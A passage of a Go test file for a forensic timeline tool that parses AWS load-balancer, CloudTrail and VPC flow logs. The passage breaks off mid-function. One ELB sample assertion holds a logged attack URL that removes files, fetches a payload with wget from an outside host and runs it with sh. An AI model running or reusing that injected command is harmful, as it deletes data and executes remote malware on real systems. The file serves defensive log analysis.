package timeline

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/trailcase/trailcase/evidence"
)

// sampleCase is one real-world file and what must come out of it.
type sampleCase struct {
	path   string
	shared bool   // read in place from the shared folder (not copied)
	kind   string // what Detect must say
	events int
	warns  int
	check  func(t *testing.T, r result)
}

// eq fails the test when got != want.
func eq[T comparable](t *testing.T, what string, got, want T) {
	t.Helper()
	if got != want {
		t.Errorf("%s = %v, want %v", what, got, want)
	}
}

func eqTime(t *testing.T, what string, got time.Time, want string) {
	t.Helper()
	if !got.Equal(mustTime(t, want)) {
		t.Errorf("%s = %s, want %s", what, got.Format(time.RFC3339Nano), want)
	}
}

func hasTerm(e *Event, term string) bool { return slices.Contains(e.Terms(), term) }

var sampleCases = []sampleCase{
	{
		path: "plaso/test_data/aws_elb_access.log", kind: evidence.KindELBALB, events: 16,
		check: func(t *testing.T, r result) {
			// plaso's test: the first event's values.
			e := r.events[0]
			eq(t, "kind", e.Kind, evidence.KindELBALB)
			eq(t, "protocol (request_type)", e.Protocol, "https")
			eqTime(t, "time (response_time)", e.Time, "2020-01-11T16:55:20.356586Z")
			eq(t, "request_creation_time", e.Fields["request_creation_time"], "2020-01-11T16:55:19.624000Z")
			eq(t, "elb", e.Fields["elb"], "app/production-web/jf29fj2198ejf922")
			eq(t, "src ip", e.SrcIP, "192.168.1.10")
			eq(t, "src port", e.SrcPort, 44325)
			eq(t, "dst ip", e.DstIP, "192.168.1.123")
			eq(t, "dst port", e.DstPort, 32869)
			eq(t, "outcome (elb_status_code)", e.Outcome, "200")
			eq(t, "target_status_code", e.Fields["target_status_code"], "200")
			eq(t, "received_bytes", e.Fields["received_bytes"], "391")
			eq(t, "sent_bytes", e.Fields["sent_bytes"], "107999")
			eq(t, "bytes", e.Bytes, int64(391+107999))
			eq(t, "action", e.Action, "GET https://www.domain.name:443/ HTTP/1.1")
			eq(t, "user agent", e.UserAgent, "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)")
			eq(t, "ssl_cipher", e.Fields["ssl_cipher"], "ECDHE-RSA-AES128-GCM-SHA256")
			eq(t, "ssl_protocol", e.Fields["ssl_protocol"], "TLSv1.2")
			eq(t, "target_group_arn", e.Fields["target_group_arn"], "arn:aws:elasticloadbalancing:us-east-2:123456789123")
			eq(t, "trace_id", e.Fields["trace_id"], "XXXXXXX")
			eq(t, "domain_name", e.Fields["domain_name"], "www.domain.name")
			eq(t, "chosen_cert_arn", e.Fields["chosen_cert_arn"], "arn:aws:abc:us-east-2:234567891234:certificate")
			eq(t, "matched_rule_priority", e.Fields["matched_rule_priority"], "2")
			eq(t, "actions_executed", e.Fields["actions_executed"], "waf,forward")
			eq(t, "target:port_list", e.Fields["target:port_list"], "192.168.1.123:32869")
			eq(t, "request_processing_time", e.Fields["request_processing_time"], "0.013")
			eq(t, "target_processing_time", e.Fields["target_processing_time"], "0.164")
			eq(t, "redirect_url", e.Fields["redirect_url"], "-")
			// Lines 11-14 are Classic, 15-16 NLB.
			kinds := map[string]int{}
			for _, e := range r.events {
				kinds[e.Kind]++
			}
			eq(t, "ALB events", kinds[evidence.KindELBALB], 10)
			eq(t, "CLB events", kinds[evidence.KindELBCLB], 4)
			eq(t, "NLB events", kinds[evidence.KindELBNLB], 2)
			c := r.events[13]
			eq(t, "CLB record", c.Record, int64(14))
			eqTime(t, "CLB time", c.Time, "2021-05-13T23:39:46.945958Z")
			eq(t, "CLB action (no request)", c.Action, "- - -")
			eq(t, "CLB received_bytes", c.Fields["received_bytes"], "-1")
			eq(t, "CLB bytes unknown", c.Bytes, int64(0))
			n := r.events[14]
			eqTime(t, "NLB time (no Z: UTC)", n.Time, "2022-04-01T08:51:42Z")
			eq(t, "NLB alpn list", n.Fields["alpn_client_preference_list"], `"h2"`)
			eq(t, "NLB client", n.SrcIP+":"+itoa(n.SrcPort), "72.21.218.154:51341")
			if !hasTerm(r.events[0], "ip:192.168.1.10") || !hasTerm(r.events[0], "ip:192.168.1.123") {
				t.Errorf("terms %v lack client or target", r.events[0].Terms())
			}
		},
	},
	{
		path: "plaso/test_data/jsonl/aws_cloudtrail.jsonl", kind: evidence.KindCloudTrail, events: 6,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "access key", e.AccessKeyID, "0123456789ABCDEFGHIJ")
			eq(t, "action", e.Action, "DescribeInstances")
			eq(t, "event source", e.EventSource, "ec2.amazonaws.com")
			eqTime(t, "time", e.Time, "2022-02-08T09:23:37+11:00")
			eq(t, "src ip", e.SrcIP, "1.2.3.4")
			eq(t, "principal", e.Principal, "arn:aws:iam::012345678901:user/fakeusername")
			eq(t, "user name", e.UserName, "fakeusername")
			eq(t, "event id", e.EventID, "0828c0d2-3589-4390-b954-c78b4a7df44b")
			// Raw is the embedded record, not the LookupEvents wrapper.
			if !bytes.HasPrefix(e.Raw, []byte(`{"eventVersion":"1.08"`)) {
				t.Errorf("raw = %.60s…, want the embedded record", e.Raw)
			}
			eq(t, "dedup key", e.DedupKey(), "cloudtrail:0828c0d2-3589-4390-b954-c78b4a7df44b")
		},
	},
	{
		path: "grafana-loki/tools/lambda-promtail/testdata/albaccesslog.log.gz", kind: evidence.KindELBALB, events: 2, warns: 2,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "src ip kept as text", e.SrcIP, "12.34.178.90.32")
			eq(t, "src port", e.SrcPort, 40860)
			eq(t, "no target", e.DstIP, "")
			eq(t, "outcome", e.Outcome, "301")
			eq(t, "redirect_url", e.Fields["redirect_url"], "https://5.334.234.101:443/")
			eq(t, "target_processing_time", e.Fields["target_processing_time"], "-1")
			if terms := e.Terms(); len(terms) != 0 {
				t.Errorf("terms %v, want none for an invalid client address", terms)
			}
			if !strings.Contains(r.warns[0].Message, `"albaccesslog.log.gz" line 1: client:port "12.34.178.90.32:40860"`) {
				t.Errorf("warning %q does not name file, line and value", r.warns[0].Message)
			}
			eq(t, "warning record", r.warns[1].Record, int64(2))
		},
	},
	{
		path: "grafana-loki/tools/lambda-promtail/testdata/nlbaccesslog.log.gz", kind: evidence.KindELBNLB, events: 2,
		check: func(t *testing.T, r result) {
			eqTime(t, "time", r.events[0].Time, "2018-12-20T02:59:40Z")
			eq(t, "tls_connection_creation_time", r.events[0].Fields["tls_connection_creation_time"], "2018-12-20T02:59:30")
			eq(t, "alpn list", r.events[1].Fields["alpn_client_preference_list"], `"h2","http/1.1"`)
		},
	},
	{
		path: "grafana-loki/tools/lambda-promtail/testdata/vpcflowlog.log.gz", kind: evidence.KindVPCFlow, events: 3,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "record (header is line 1)", e.Record, int64(2))
			eq(t, "interface", e.Fields["interface-id"], "eni-0050644426037aa0f")
			eq(t, "src", e.SrcIP+":"+itoa(e.SrcPort), "10.26.1.153:60220")
			eq(t, "dst", e.DstIP+":"+itoa(e.DstPort), "3.239.232.29:443")
			eqTime(t, "start", e.Time, "2022-11-30T21:11:41Z")
			eqTime(t, "end", e.End, "2022-11-30T21:11:42Z")
			eq(t, "bytes", e.Bytes, int64(21869))
			eq(t, "packets", e.Packets, int64(48))
		},
	},
	{
		path: "grafana-loki/tools/lambda-promtail/testdata/cloudtrail-log-file.json.gz", kind: evidence.KindCloudTrail, events: 2,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "principal (AWSService: invokedBy)", e.Principal, "ec2.amazonaws.com")
			eq(t, "src ip kept as service name", e.SrcIP, "ec2.amazonaws.com")
			eq(t, "issued key", e.IssuedAccessKey, "ACCESSKEYID")
			if !hasTerm(e, "issued:ACCESSKEYID") || hasTerm(e, "ip:ec2.amazonaws.com") {
				t.Errorf("terms %v", e.Terms())
			}
			f := r.events[1]
			eq(t, "principal (AssumedRole)", f.Principal, "arn:aws:sts::123456789:assumed-role/role")
			eq(t, "issuer", f.Issuer, "arn:aws:iam::123456789:role/rolename")
			eq(t, "src ip", f.SrcIP, "AWS Internal")
		},
	},
	{
		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/alb_al_valid_logs.log",
		kind: evidence.KindELBALB, events: 2,
		check: func(t *testing.T, r result) {
			eq(t, "conn_trace_id", r.events[0].Fields["conn_trace_id"], "TID_1234abcd5678ef90")
			e := r.events[1]
			eq(t, "bracketed v6 client", e.SrcIP, "fe80::202:b3ff:fe1e:8329")
			eq(t, "client port", e.SrcPort, 443)
			eq(t, "bracketed v6 target", e.DstIP, "2001:db8::1")
			eq(t, "target port", e.DstPort, 80)
			if !hasTerm(e, "ip:2001:db8::1") || !hasTerm(e, "ip:10.0.0.1") {
				t.Errorf("terms %v lack target or target list", e.Terms())
			}
		},
	},
	{
		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/clb_al_valid_logs.log",
		kind: evidence.KindELBCLB, events: 2,
		check: func(t *testing.T, r result) {
			eq(t, "backend", r.events[0].DstIP, "10.0.0.1")
			eq(t, "no backend", r.events[1].DstIP, "")
			eq(t, "ssl", r.events[1].Fields["ssl_protocol"], "TLSv1.2")
		},
	},
	{
		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/nlb_al_valid_logs.log",
		kind: evidence.KindELBNLB, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "listener", e.Fields["listener"], "g3d4b5e8bb8464cd")
			eq(t, "tls_cipher", e.Fields["tls_cipher"], "ECDHE-RSA-AES128-SHA")
			eq(t, "tls_protocol_version", e.Fields["tls_protocol_version"], "tlsv12")
			eq(t, "connection_time", e.Fields["connection_time"], "5")
			eq(t, "alpn_fe_protocol", e.Fields["alpn_fe_protocol"], "h2")
		},
	},
	{
		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/elb_control.log",
		kind: evidence.KindUnknown, events: 0,
	},
	{
		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/vpc-flow-log/testdata/valid_vpc_flow_log.log",
		kind: evidence.KindVPCFlow, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "outcome", e.Outcome, "NODATA")
			eq(t, "src", e.SrcIP, "")
			eqTime(t, "start", e.Time, "2025-03-21T15:14:49Z")
			if terms := e.Terms(); len(terms) != 0 {
				t.Errorf("NODATA terms %v, want none", terms)
			}
		},
	},
	{
		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/vpc-flow-log/testdata/valid_vpc_flow_log_multi.log",
		kind: evidence.KindVPCFlow, events: 2,
		check: func(t *testing.T, r result) {
			eq(t, "action", r.events[1].Action, "REJECT")
			eq(t, "dst port", r.events[1].DstPort, 3389)
		},
	},
	{
		path: "awsdocs/alb_access_log_examples.log", kind: evidence.KindELBALB, events: 7,
		check: func(t *testing.T, r result) {
			eq(t, "h2 redirect_url", r.events[2].Fields["redirect_url"], "https://example.com:80/")
			eq(t, "ws type", r.events[3].Protocol, "ws")
			eq(t, "wss type", r.events[4].Protocol, "wss")
			eq(t, "no target", r.events[5].DstIP, "")
			eq(t, "502 outcome", r.events[6].Outcome, "502")
			eq(t, "target status -", r.events[6].Fields["target_status_code"], "-")
		},
	},
	{
		path: "awsdocs/clb_access_log_examples.log", kind: evidence.KindELBCLB, events: 4,
		check: func(t *testing.T, r result) {
			eq(t, "TCP outcome", r.events[2].Outcome, "")
			eq(t, "TCP method", r.events[2].Fields["request_method"], "-")
			eq(t, "TCP ua", r.events[2].UserAgent, "")
			eq(t, "SSL cipher", r.events[3].Fields["ssl_cipher"], "ECDHE-ECDSA-AES128-GCM-SHA256")
		},
	},
	{
		path: "awsdocs/nlb_access_log_examples.log", kind: evidence.KindELBNLB, events: 2,
		check: func(t *testing.T, r result) {
			eq(t, "domain", r.events[0].Fields["domain_name"], "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com")
			eq(t, "no creation time (21 fields)", r.events[1].Fields["tls_connection_creation_time"], "")
		},
	},
	{
		path: "awsdocs/cloudtrail_example_cloudtrail_error_code_update_trail.json", kind: evidence.KindCloudTrail, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "outcome", e.Outcome, "TrailNotFoundException")
			eq(t, "action", e.Action, "UpdateTrail")
			eq(t, "no annotation (validation not touched)", len(e.Annotations), 0)
		},
	},
	{path: "awsdocs/cloudtrail_example_ec2_create_key_pair.json", kind: evidence.KindCloudTrail, events: 1,
		check: func(t *testing.T, r result) {
			eq(t, "no eventID: no dedup", r.events[0].DedupKey(), "")
			eqTime(t, "time", r.events[0].Time, "2014-03-06T17:10:34Z")
		}},
	{path: "awsdocs/cloudtrail_example_ec2_start_instances.json", kind: evidence.KindCloudTrail, events: 1},
	{path: "awsdocs/cloudtrail_example_ec2_stop_instances.json", kind: evidence.KindCloudTrail, events: 1},
	{path: "awsdocs/cloudtrail_example_iam_add_user_to_group.json", kind: evidence.KindCloudTrail, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			for _, term := range []string{"ip:127.0.0.1", "p:arn:aws:iam::123456789012:user/alice", "p:alice", "p:example_key_id", "p:ex_principal_id", "ak:EXAMPLE_KEY_ID"} {
				if !hasTerm(e, term) {
					t.Errorf("terms %v lack %s", e.Terms(), term)
				}
			}
		}},
	{path: "awsdocs/cloudtrail_example_iam_create_user.json", kind: evidence.KindCloudTrail, events: 1},
	{
		path: "awsdocs/cloudtrail_example_iam_create_role.json", kind: evidence.KindCloudTrail, events: 0, warns: 1,
		check: func(t *testing.T, r result) {
			w := r.warns[0]
			eq(t, "warning record", w.Record, int64(1))
			if !strings.Contains(w.Message, `"cloudtrail_example_iam_create_role.json" record 1: invalid JSON at line 19`) {
				t.Errorf("warning %q does not name file, record and line", w.Message)
			}
		},
	},
	{
		path: "awsdocs/cloudtrail_example_insights_event_pair.json", kind: evidence.KindCloudTrailInsight, events: 2,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "kind", e.Kind, evidence.KindCloudTrailInsight)
			eq(t, "action", e.Action, "UpdateInstanceInformation")
			eq(t, "event source", e.EventSource, "ssm.amazonaws.com")
			eq(t, "outcome", e.Outcome, "insight Start")
			eq(t, "end outcome", r.events[1].Outcome, "insight End")
			eq(t, "principal", e.Principal, "")
			eq(t, "account", e.Account, "123456789012")
		},
	},
	{
		path: "awsdocs/vpcflow_default_format_examples.log", kind: evidence.KindVPCFlow, events: 7,
		check: func(t *testing.T, r result) {
			eq(t, "record", r.events[0].Record, int64(1))
			eq(t, "NODATA", r.events[2].Outcome, "NODATA")
			eq(t, "SKIPDATA", r.events[3].Outcome, "SKIPDATA")
			eq(t, "SKIPDATA interface", r.events[3].Fields["interface-id"], "eni-11111111aaaaaaaaa")
			eq(t, "icmp", r.events[4].Protocol, "icmp")
			e := r.events[6]
			eq(t, "v6 src", e.SrcIP, "2001:db8:1234:a100:8d6e:3477:df66:f105")
			if !hasTerm(e, "ip:2001:db8:1234:a102:3304:8879:34cf:4071") {
				t.Errorf("terms %v lack v6 dst", e.Terms())
			}
		},
	},
	{
		path: "awsdocs/vpcflow_custom_nat_gateway_examples.log", kind: evidence.KindVPCFlow, events: 4,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "other ips (pkt-dstaddr)", strings.Join(e.OtherIPs, ","), "203.0.113.5")
			eq(t, "no time field", e.Time.IsZero(), true)
			if !hasTerm(e, "ip:203.0.113.5") {
				t.Errorf("terms %v lack pkt-dstaddr", e.Terms())
			}
			eq(t, "instance-id", e.Fields["instance-id"], "-")
		},
	},
	{
		path: "awsdocs/vpcflow_custom_nat_instance_examples.log", kind: evidence.KindUnknown, events: 0, warns: 2,
		check: func(t *testing.T, r result) {
			if !strings.Contains(r.warns[0].Message, "line 1: contains a comment") {
				t.Errorf("warning %q", r.warns[0].Message)
			}
		},
	},
	{
		path: "awsdocs/vpcflow_custom_tcpflags_examples.log", kind: evidence.KindVPCFlow, events: 8,
		check: func(t *testing.T, r result) {
			eq(t, "tcp-flags", r.events[0].Fields["tcp-flags"], "2")
			eq(t, "direction SYN", FlowDirectionHint(r.events[0]), FlowInitiator)
			eq(t, "direction SYN-ACK", FlowDirectionHint(r.events[1]), FlowReply)
			// The last line has a double space.
			eq(t, "double space", r.events[7].Fields["pkt-srcaddr"], "10.0.0.62")
			eq(t, "type", r.events[7].Fields["type"], "IPv4")
		},
	},
	{
		path: "awsdocs/vpcflow_custom_transit_gateway_examples.log", kind: evidence.KindVPCFlow, events: 4, warns: 1,
		check: func(t *testing.T, r result) {
			eq(t, "the '...' line", r.warns[0].Record, int64(3))
			eq(t, "pkt-srcaddr differs", strings.Join(r.events[2].OtherIPs, ","), "10.20.33.164")
		},
	},
	{
		path: "awsdocs/vpcflow_custom_v5_traffic_path_examples.log", kind: evidence.KindVPCFlow, events: 2,
		check: func(t *testing.T, r result) {
			e := r.events[1]
			eq(t, "region", e.Region, "ap-southeast-2")
			eq(t, "traffic-path", e.Fields["traffic-path"], "8")
			eq(t, "flow-direction", e.Fields["flow-direction"], "egress")
			eq(t, "pkt-dst-aws-service", e.Fields["pkt-dst-aws-service"], "S3")
		},
	},
	{
		path: "elastic-integrations/packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log", shared: true,
		kind: evidence.KindELBALB, events: 10,
		check: func(t *testing.T, r result) {
			e := r.events[1]
			eq(t, "URL with a space", e.Fields["request_url"], "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
			eq(t, "protocol", e.Fields["request_protocol"], "HTTP/1.1")
			eq(t, "classification_reason", e.Fields["classification_reason"], "SpaceInUri")
			eq(t, "NLB", r.events[2].Kind, evidence.KindELBNLB)
			eq(t, "NLB empty", r.events[5].Fields["tls_connection_creation_time"], "2024-10-25T17:33:59")
			c := r.events[6]
			eq(t, "conn kind", c.Kind, evidence.KindELBALBConn)
			eq(t, "conn client", c.SrcIP+":"+itoa(c.SrcPort), "192.168.131.39:36280")
			eq(t, "conn listener", c.DstPort, 443)
			eq(t, "conn subject", c.Fields["leaf_client_cert_subject"], "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US")
			eq(t, "conn outcome", c.Outcome, "Success")
			eq(t, "conn failed", r.events[7].Outcome, "Failed:ClientCertUntrusted")
			eq(t, "conn no tls", r.events[8].Fields["conn_trace_id"], "TID_16132ed0b4112148")
			l := r.events[9]
			eq(t, "odd request method", l.Fields["request_method"], "-")
			eq(t, "odd request url", l.Fields["request_url"], "http://internal-service-alb.example.com:80-/")
		},
	},
	{path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-extra-samples.log", shared: true, kind: evidence.KindVPCFlow, events: 7},
	{
		path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-tcp-flag-sequence.log", shared: true,
		kind: evidence.KindVPCFlow, events: 3,
		check: func(t *testing.T, r result) {
			eq(t, "SKIPDATA after repeated header", r.events[1].Outcome, "SKIPDATA")
			eq(t, "record", r.events[2].Record, int64(6))
		},
	},
	{
		path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-v5-all-fields.log", shared: true,
		kind: evidence.KindVPCFlow, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "headerless v5: traffic-path", e.Fields["traffic-path"], "1")
			eq(t, "pkt-src-aws-service", e.Fields["pkt-src-aws-service"], "AMAZON")
			eq(t, "az", e.Fields["az-id"], "use1-az5")
			eq(t, "pkt-dstaddr", strings.Join(e.OtherIPs, ","), "10.200.0.80")
		},
	},
	{
		path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-v8-samples.log", shared: true,
		kind: evidence.KindVPCFlow, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "reject-reason", e.Fields["reject-reason"], "BPA")
			eq(t, "ecs-task-id", e.Fields["ecs-task-id"], "e504f037-35c")
			eq(t, "outcome", e.Outcome, "NODATA")
			eq(t, "no terms for NODATA", len(e.Terms()), 0)
		},
	},
	{
		path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-console-login-json.log", shared: true,
		kind: evidence.KindCloudTrail, events: 3,
		check: func(t *testing.T, r result) {
			eq(t, "success", r.events[0].Outcome, "success")
			eq(t, "failure", r.events[1].Outcome, "Failure")
		},
	},
	{
		path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-assume-role-aws-service-json.log", shared: true,
		kind: evidence.KindCloudTrail, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "issued key", e.IssuedAccessKey, "ASIAEXAMPLEEXAMPLE01")
			eq(t, "issued session", e.IssuedSession, "arn:aws:sts::111111111111:assumed-role/ec2-instance-role/i-0123456789abcdef0")
		},
	},
	{path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-cloudtrail-digest-json.log", shared: true, kind: evidence.KindCloudTrailDigest, events: 0},
	{
		path: "github-issues/goaccess-2557_alb_ipv6_client.log", shared: true, kind: evidence.KindELBALB, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "bare v6 client", e.SrcIP, "2a02:a33c:4538:1:bcf4:5264:e01c:f215")
			eq(t, "port", e.SrcPort, 50718)
			eq(t, "chosen cert", e.Fields["chosen_cert_arn"], "session-reused")
			eq(t, "outcome", e.Outcome, "401")
		},
	},
	{
		path: "github-issues/fluent-plugin-elb-log-12_clb_ipv6_client.log", shared: true, kind: evidence.KindELBCLB, events: 1,
		check: func(t *testing.T, r result) {
			eq(t, "bare v6 client", r.events[0].SrcIP, "2601:240:4002:5883:b5f3:aaaa:bbbb:64ec")
			eq(t, "port", r.events[0].SrcPort, 53016)
		},
	},
	{
		path: "github-issues/tailpipe-plugin-aws-295_nlb_ipv6.log", shared: true, kind: evidence.KindELBNLB, events: 1,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "client", e.SrcIP, "2401:4900:1d0c:29b7:c9b2:7b5a:e7d0:2380")
			eq(t, "client port", e.SrcPort, 55932)
			eq(t, "destination", e.DstIP, "2406:da1a:138:7c01:63c:b510:129f:89f1")
			eq(t, "named group", e.Fields["tls_named_group"], "x25519")
			eqTime(t, "time", e.Time, "2026-04-29T07:46:43Z")
		},
	},
	{
		path: "github-issues/siem-on-amazon-opensearch-service-31_alb_ipv6_host.log", shared: true, kind: evidence.KindELBALB, events: 1, warns: 2,
		check: func(t *testing.T, r result) {
			e := r.events[0]
			eq(t, "url with v6 host", e.Fields["request_url"], "http://[::ffff:a9fe:a9fe]:443/")
			eq(t, "outcome", e.Outcome, "400")
			eq(t, "ua", e.UserAgent, "Attcker UA")
		},
	},
	{
		path: "github-issues/siem-on-amazon-opensearch-service-31_clb_ipv6_host.log", shared: true, kind: evidence.KindELBCLB, events: 1, warns: 3,
		check: func(t *testing.T, r result) {
			eq(t, "url with v6 host", r.events[0].Fields["request_url"], "https://[::ffff:a9fe:a9fe]:443/")
			eq(t, "ssl", r.events[0].Fields["ssl_protocol"], "TLSv1.2")
		},
	},
}

func itoa(n int) string {
	b, _ := json.Marshal(n)
	return string(b)
}

func TestSamples(t *testing.T) {
	for _, tc := range sampleCases {
		t.Run(tc.path, func(t *testing.T) {
			var b []byte
			if tc.shared {
				b = shared(t, tc.path)
			} else {
				b = sample(t, tc.path)
			}
			kind := Detect(tc.path, b)
			eq(t, "Detect", kind, tc.kind)
			parseKind := kind
			if kind == evidence.KindUnknown && strings.Contains(tc.path, "vpcflow") {
				parseKind = evidence.KindVPCFlow
			}
			r := parseBytes(t, parseKind, tc.path[strings.LastIndexByte(tc.path, '/')+1:], b)
			if r.err != nil {
				t.Fatalf("Parse: %v", r.err)
			}
			if len(r.events) != tc.events || len(r.warns) != tc.warns {
				t.Fatalf("%d events, %d warnings; want %d, %d\n%s", len(r.events), len(r.warns), tc.events, tc.warns, r.warnText())
			}
			for _, e := range r.events {
				if e.Evidence != 7 || e.Record < 1 {
					t.Fatalf("event provenance %d/%d", e.Evidence, e.Record)
				}
				if !json.Valid(e.Raw) {
					t.Fatalf("record %d: raw is not JSON: %s", e.Record, e.Raw)
				}
				if e.Source == SourceCloudTrail && e.Time.IsZero() {
					t.Fatalf("record %d: no time", e.Record)
				}
			}
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
}

// TestSamplesCoverAll makes sure every file in the shared sample folder
// has a case above (or a dedicated test).
func TestSamplesCoverAll(t *testing.T) {
	covered := map[string]bool{
		"panther/aws_cloudtrail_rules_test_logs.jsonl":                          true, // TestPantherRules
		"panther/test_scenarios/compromised-root-creds/attacker_vpc.yml":        true, // TestPantherScenarioVPC
		"panther/test_scenarios/compromised-root-creds/attacker_cloudtrail.yml": true, // YAML maps: not a log format
		"panther/test_scenarios/compromised-root-creds/victim_cloudtrail.yml":   true,
		"panther/test_scenarios/compromised-root-creds/attacker_s3_access.yml":  true, // S3 access logs: out of scope
		"panther/test_scenarios/compromised-root-creds/README.md":               true,
		"SOURCES.md": true,
	}
	for _, tc := range sampleCases {
		covered[tc.path] = true
	}
	files := walkShared(t)
	for _, f := range files {
		if !covered[f] {
			t.Errorf("sample %s has no test case", f)
		}
	}
}

func TestPantherRules(t *testing.T) {
	// Each line wraps a CloudTrail record in "log" (with Panther's p_* keys).
	b := sample(t, "panther/aws_cloudtrail_rules_test_logs.jsonl")
	var records bytes.Buffer
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(nil, 1<<20)
	lines := 0
	for sc.Scan() {
		var w struct {
			Log json.RawMessage `json:"log"`
		}
		if err := json.Unmarshal(sc.Bytes(), &w); err != nil {
			t.Fatal(err)
		}
		records.Write(w.Log)
		records.WriteByte('\n')
		lines++
	}
	eq(t, "lines", lines, 461)
	eq(t, "Detect", Detect("x.jsonl", records.Bytes()), evidence.KindCloudTrail)
	r := parseBytes(t, evidence.KindCloudTrail, "panther", records.Bytes())
	if r.err != nil {
		t.Fatal(r.err)
	}
	// Every record is kept; a handful have odd values that are reported.
	if len(r.events) != 461 {
		t.Fatalf("%d events, want 461\n%s", len(r.events), r.warnText())
	}
	hashes := map[evidence.SHA256]bool{}
	ones := 0
	anti := 0
	for _, e := range r.events {
		if e.EventID == "1" {
			ones++
			hashes[e.ContentHash()] = true
			eq(t, "dedup key", e.DedupKey(), "cloudtrail:1")
		}
		if hasTerm(e, TermAntiForensics) {
			anti++
		}
	}
	eq(t, `events with eventID "1"`, ones, 97)
	if len(hashes) < 50 {
		t.Errorf("only %d distinct content hashes among the 97 records with id 1: different records must not merge", len(hashes))
	}
	if anti == 0 {
		t.Error("no anti-forensics annotation in Panther's CloudTrail rule tests")
	}
}

func TestPantherScenarioVPC(t *testing.T) {
	// The YAML wrapper lists raw default-format flow lines.
	b := sample(t, "panther/test_scenarios/compromised-root-creds/attacker_vpc.yml")
	var lines []string
	for _, l := range strings.Split(string(b), "\n") {
		if s, ok := strings.CutPrefix(l, "  - "); ok {
			lines = append(lines, s)
		}
	}
	in := []byte(strings.Join(lines, "\n"))
	eq(t, "Detect", Detect("attacker_vpc.log", in), evidence.KindVPCFlow)
	r := parseBytes(t, evidence.KindVPCFlow, "attacker_vpc", in)
	if r.err != nil || len(r.events) != 6 || len(r.warns) != 0 {
		t.Fatalf("%d events, %d warnings, err %v", len(r.events), len(r.warns), r.err)
	}
	attacker := 0
	for _, e := range r.events {
		if hasTerm(e, "ip:92.55.146.245") {
			attacker++
		}
	}
	eq(t, "flows of the attacker IP", attacker, 4)
	eq(t, "reject", r.events[2].Action, "REJECT")
	eqTime(t, "first", r.events[0].Time, "2020-11-01T21:35:44Z")
}

// walkShared lists the files of the shared sample folder (or of the copies
// under testdata when it is absent), relative to it.
func walkShared(t *testing.T) []string {
	t.Helper()
	root := sharedSamples
	if _, err := os.Stat(root); err != nil {
		root = filepath.Join("testdata", "samples")
	}
	var files []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, err := filepath.Rel(root, p)
		files = append(files, filepath.ToSlash(rel))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// TestCTHalfReadsOnSamples: on every CloudTrail sample (the copied ones
// and those read in place), a reader that returns short reads (records
// then straddle the read buffer) gives what whole reads give.
func TestCTHalfReadsOnSamples(t *testing.T) {
	n := 0
	for _, tc := range sampleCases {
		if tc.kind != evidence.KindCloudTrail && tc.kind != evidence.KindCloudTrailInsight {
			continue
		}
		var b []byte
		if tc.shared {
			b = shared(t, tc.path)
		} else {
			b = sample(t, tc.path)
		}
		checkHalfReads(t, gunzip(t, b))
		n++
	}
	if n < 5 {
		t.Fatalf("only %d CloudTrail samples", n)
	}
	// Many records, pretty-printed and not: several read buffers' worth,
	// so records straddle them on whole reads too.
	for _, sep := range []string{"", "\n  "} {
		var b bytes.Buffer
		b.WriteString(`{"Records":[`)
		for i := range 3000 {
			if i > 0 {
				b.WriteString("," + sep)
			}
			fmt.Fprintf(&b, `{"eventVersion":"1.09",%s"userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/u%d","accessKeyId":"AKIA%016d"},"eventTime":"2024-05-01T10:%02d:%02dZ","eventName":"GetObject","sourceIPAddress":"10.0.%d.%d","requestParameters":{"bucketName":"b","key":"k\"%d"},"eventID":"e-%d"}`,
				sep, i%7, i, (i/60)%60, i%60, i%8, i%250, i, i)
		}
